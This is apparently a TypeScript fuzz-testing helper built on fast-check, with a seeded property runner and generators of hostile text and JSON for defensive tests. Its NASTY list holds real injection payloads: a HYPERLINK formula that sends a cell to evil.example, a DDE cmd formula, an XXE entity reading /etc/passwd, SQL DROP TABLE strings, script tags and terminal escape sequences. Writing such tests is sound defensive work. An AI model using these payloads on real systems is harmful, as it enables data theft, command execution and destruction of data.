import { appendFileSync } from 'node:fs';
import fc from 'fast-check';

/*
 * `npm test` runs each property some dozens of times with one fixed seed; `npm run fuzz` (scripts/fuzz.ts) runs them by
 * time, with a seed of its own each round: FUZZ_SEED, FUZZ_MS per property, FUZZ_TALLY: a file that counts the inputs.
 */
const SEED = Number(process.env['FUZZ_SEED'] ?? 20_261_123);
const MS = Number(process.env['FUZZ_MS'] ?? 0);
/** The part of its runs that a property makes in `npm test`, where they are always the same ones. */
const SHORT = 0.3;
const TALLY = process.env['FUZZ_TALLY'];

/** Checks a property; fast-check prints the seed, the path and the smallest input that breaks it. */
export async function fuzz<Values extends [unknown, ...unknown[]]>(
  inputs: { [At in keyof Values]: fc.Arbitrary<Values[At]> },
  holds: (...values: Values) => void | Promise<void>,
  runs = 100,
): Promise<void> {
  let count = 0;
  const property = fc.asyncProperty(fc.tuple(...inputs), async (values) => {
    count += 1;
    await holds(...(values as unknown as Values));
  });
  const numRuns = MS > 0 ? runs : Math.ceil(runs * SHORT);
  const endsAtMs = performance.now() + MS;
  try {
    // Whole batches, never interrupted: an input that is cut short would still be at work during the next test.
    for (let seed = SEED; seed === SEED || performance.now() < endsAtMs; seed += 1) {
      await fc.assert(property, { seed, numRuns });
    }
  } finally {
    if (TALLY !== undefined) appendFileSync(TALLY, `${count}\n`);
  }
}

/** What breaks out of a line, a cell, a tag, a quotation, or a terminal's good behaviour. */
export const NASTY: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '<script>alert(1)</script>',
  '</t></is></c><c><f>1+1</f></c>',
  ']]><!ENTITY x SYSTEM "file:///etc/passwd">',
  '&#x0;&lt;&amp;',
  '"; DROP TABLE packages; --',
  "'; DROP TABLE packages; --",
  '","forged","row"\r\n"a","b',
  '\u001b[2J\u001b]0;title\u0007\u001b]8;;https://evil.example\u0007',
  '\u009b31m',
  '\u0000\u0008\u007f',
  'line\r\n2026-11-23 info  all is well',
  '\u2028\u2029\u0085',
  '\u202egpj.exe\u2066\u2069\u200f',
  '_x000D__x003D_1',
  '\ud800',
  '\udfff\ud83d\ude80',
  '\ufffe\uffff\ufeff',
  '__proto__',
  'constructor',
  '%00%0a%s%n${7*7}{{7*7}}',
  'x'.repeat(8_000),
];

/** Text as it comes from those who mean harm, and from those who mean nothing at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.tuple(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 8 })).map(([a, b]) => b + a),
);

/** Any JSON value, with names that mean something to JavaScript, numbers beyond all bounds and deep nests. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4, depthSize: 'small', withCrossShrink: true },
    hostileText,
    fc.double(),
    fc.constantFrom(null, true, false, -1, 1e308, 2 ** 53, '1e400', '-1', []),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(
      fc.oneof(fc.constantFrom('__proto__', 'constructor', 'toString', 'length', ''), fc.string()),
      tie('value'),
      { maxKeys: 4 },
    ),
  ),
})).value;

/** Everything that a terminal or a line-based reader would obey, but for the line feed. */
// oxlint-disable-next-line eslint/no-control-regex
export const STEERING: RegExp = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/;
